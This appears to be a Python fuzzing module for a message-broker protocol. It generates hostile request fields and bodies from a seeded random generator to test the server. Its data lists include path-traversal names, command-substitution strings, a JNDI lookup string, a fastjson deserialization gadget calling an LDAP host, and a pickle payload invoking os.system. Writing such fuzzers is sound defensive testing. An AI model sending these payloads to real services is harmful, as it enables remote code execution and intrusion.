"""Requests that no honest client sends: names, numbers, texts and bodies that break careless code.

All choices come from the caller's random generator, so a seed reproduces a failure.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from random import Random
from typing import Any

import msgspec

from kourou.protocol.messages.sends import SEND_SHORT_NAMES
from kourou.protocol.record.message_record import encode_draft
from kourou.protocol.request import Request, RequestSpec
from kourou_rigs.access import sample_request

NAMES = (
    "../../outside",
    "..",
    ".",
    "/outside",
    "a/../../outside",
    "..\\outside",
    "%2e%2e%2foutside",
    "%2e%2e/%2e%2e/outside",
    "a\0b",
    "\0",
    "a\nb",
    "a\x7fb",
    "~",
    "$(touch outside)",
    "`touch outside`",
    "a;b",
    "a b",
    "C:\\outside",
    "file:///outside",
    "\u2025/outside",
    "\uff0e\uff0e\uff0foutside",
    "\ufffd",
    "x" * 128,
    "x" * 5_000,
)
"""Names that must not become a topic, a group, a file or a folder."""

OVERLONG = (b"\xc0\xae\xc0\xae\xc0\xafoutside", b"\xe0\x80\xae\xe0\x80\xae/outside", b"\xff\xfe")
"""Bytes that are not UTF-8; the first two are `../` to a lenient decoder."""

TEXTS = (
    "",
    "*",
    "orders",
    "g",
    "%RETRY%g",
    "%DLQ%g",
    "%RETRY%",
    "TBW102",
    "RMQ_SYS_TRANS_HALF_TOPIC",
    "SCHEDULE_TOPIC_XXXX",
    "rmq_sys_kourou_control",
    "topic/orders",
    "user/root",
    "7F00000100002A9F0000000000000000",
    "7F00000100002A9FFFFFFFFFFFFFFFFF",
    "Z" * 32,
    "{}",
    "%s%n",
    "${jndi:ldap://h/x}",
    "\x01\x02",
    "K\x01v\x02DELAY\x0199999999999999999999",
    "TRAN_MSG\x01true\x02PGROUP\x01g\x02UNIQ_KEY\x01U",
    "REAL_TOPIC\x01../../outside\x02REAL_QID\x01-1\x02DELAY\x011",
    "a = 1",
    "(" * 500 + "a" + ")" * 500,
    "a IN (" + ",".join(["'x'"] * 3_000) + ")",
)
"""Texts that mean something in some field, each also where it means nothing."""

NAMES_IN_BODIES = (
    '{{"clientID":{0},"producerDataSet":[{{"groupName":{0}}}],"consumerDataSet":[{{"groupName":{0},'
    '"subscriptionDataSet":[{{"topic":{0},"subString":"*"}}]}}]}}',
    '{{"clientId":{0},"consumerGroup":{0},"group":{0},"groupName":{0},"subscriptionData":'
    '{{"topic":{0}}},"mqSet":[{{"topic":{0},"brokerName":{0},"queueId":0}}]}}',
)
"""JSON bodies with room for a name, to be filled by `format` with it as JSON."""

_LETTERS = {name: letter for letter, name in SEND_SHORT_NAMES.items()}
_EDGES = (-1, 0, 1, 2, 7, 2**15, 2**16 - 1, 2**31 - 1, -(2**31), 2**62, 2**63 - 1, -(2**63))


def fields_with(spec: RequestSpec, text: str) -> Mapping[str, str]:
    """All fields of a request by remoting: texts are this one, numbers are 1."""
    found: dict[str, str] = {}
    for field in msgspec.inspect.type_info(spec.header).fields:  # type: ignore[attr-defined]  # a StructType
        kinds = getattr(field.type, "types", (field.type,))
        if has_room(field.type):
            found[field.encode_name] = text
        elif any(isinstance(kind, msgspec.inspect.IntType) for kind in kinds):
            found[field.encode_name] = "1"
    if "properties" in found:
        found["properties"] = f"REAL_TOPIC\x01{text}\x02REAL_QID\x010\x02KEYS\x01{text}\x02"
    if spec.short_names:
        return {_LETTERS[key]: value for key, value in found.items()}
    return found


def has_room(kind: msgspec.inspect.Type) -> bool:
    """True if a field of this type takes a text."""
    kinds = getattr(kind, "types", (kind,))
    return any(isinstance(one, msgspec.inspect.StrType) for one in kinds)


def texts_of(spec: RequestSpec, text: str) -> Request:
    """A request whose texts are this one; what else it requires is empty."""
    fields = msgspec.inspect.type_info(spec.header).fields  # type: ignore[attr-defined]  # a StructType
    known = {one.name: text for one in fields if has_room(one.type)}
    request: Request = sample_request(spec, known)
    return request


def hostile_text(chance: Random) -> str:
    """A name or a text."""
    return chance.choice(chance.choice((NAMES, TEXTS)))


def hostile_request(spec: RequestSpec, chance: Random) -> Request:
    """A request whose fields are of the declared types; about half of the optional ones are set."""
    fields: dict[str, object] = {}
    for field in msgspec.inspect.type_info(spec.header).fields:  # type: ignore[attr-defined]  # a StructType
        if field.required or chance.random() < 0.5:
            fields[field.name] = _value(field.type, chance)
    return spec.header(**fields)


def _value(kind: msgspec.inspect.Type, chance: Random) -> object:
    inspect = msgspec.inspect
    match kind:
        case inspect.UnionType(types=types):
            return _value(chance.choice(types), chance)
        case inspect.BoolType():
            return chance.random() < 0.5
        case inspect.IntType(ge=low, le=high):
            fitting = [
                n for n in _EDGES if (low is None or low <= n) and (high is None or n <= high)
            ]
            return chance.choice(fitting)
        case inspect.StrType():
            return hostile_text(chance)
        case inspect.BytesType():
            return chance.choice((b"", b"\0", bytes(2), bytes(4), b"\xff" * 8, bytes(64)))
        case inspect.ListType(item_type=item) | inspect.VarTupleType(item_type=item):
            return [_value(item, chance) for _ in range(chance.choice((0, 1, 2, 20)))]
        case inspect.StructType(cls=cls, fields=fields):
            return cls(**{one.name: _value(one.type, chance) for one in fields})
        case inspect.DictType(key_type=key, value_type=value):
            return {_value(key, chance): _value(value, chance) for _ in range(2)}
    return None


def hostile_body(chance: Random) -> bytes:
    """A body: JSON with hostile members, drafts that are not quite right, or noise."""
    return chance.choice((_json_body, _json_body, _drafts, _noise))(chance)


def _noise(chance: Random) -> bytes:
    return chance.choice(
        (
            b"",
            b"{",
            b"null",
            b"[]",
            b"{}",
            b"NaN",
            b"1e999",
            b"\xff\xfe" * 50,
            b"[" * 100_000,
            b'{"a":' * 50_000,
            b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://h/x"}',
            b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93.",
            b"rocketmqHome=/tmp/x\nfilterServerNums=1\n",
            b"\\u000aa=b\n=\n\\",
            chance.randbytes(chance.randrange(300)),
        )
    )


_MEMBERS = (
    "clientID", "producerDataSet", "consumerDataSet", "groupName", "subscriptionDataSet", "topic",
    "subString", "subVersion", "expressionType", "codeSet", "tagsSet", "consumeType",
    "messageModel", "consumeFromWhere", "unitMode", "consumerGroup", "clientId", "mqSet",
    "brokerName", "queueId", "group", "subscriptionData", "retryQueueNums", "retryMaxTimes",
    "brokerId", "offsetTable", "users", "username", "password", "userType", "roles", "curveKeys",
    "certificateSubjects", "policies", "resource", "actions", "sourceIps", "decision", "winners",
    "positions", "offsets",
)  # fmt: skip


def _json_body(chance: Random) -> bytes:
    def value(depth: int) -> Any:
        kind = chance.randrange(7 if depth < 4 else 4)
        if kind == 0:
            return hostile_text(chance)
        if kind == 1:
            return chance.choice(_EDGES)
        if kind == 2:
            return chance.choice((None, True, False, 1.5, -0.0, 1e308))
        if kind == 3:
            return []
        if kind == 4:
            return [value(depth + 1) for _ in range(3)]
        return {chance.choice(_MEMBERS): value(depth + 1) for _ in range(6)}

    template: dict[str, Any] = {name: value(2) for name in _MEMBERS if chance.random() < 0.8}
    if chance.random() < 0.7:
        subscription = {"topic": hostile_text(chance), "subString": hostile_text(chance)}
        template["clientID"] = template["clientId"] = hostile_text(chance)
        template["groupName"] = template["consumerGroup"] = hostile_text(chance)
        template["consumerDataSet"] = [
            {"groupName": hostile_text(chance), "subscriptionDataSet": [subscription]}
        ]
        template["producerDataSet"] = [{"groupName": hostile_text(chance)}]
        template["mqSet"] = [
            {
                "topic": hostile_text(chance),
                "brokerName": hostile_text(chance),
                "queueId": chance.choice(_EDGES[:8]),
            }
        ]
    return json.dumps(template).encode()


def _drafts(chance: Random) -> bytes:
    draft = bytearray(
        encode_draft(
            topic=hostile_text(chance).encode()[:127] or b"t",
            queue_id=chance.choice(_EDGES[:8]),
            body=b"body",
            properties=hostile_text(chance).encode()[:30_000],
            born_timestamp=1,
            born_host=bytes(8),
        )
    )
    for _ in range(chance.randrange(3)):
        draft[chance.randrange(len(draft))] = chance.randrange(256)
    return bytes(draft)
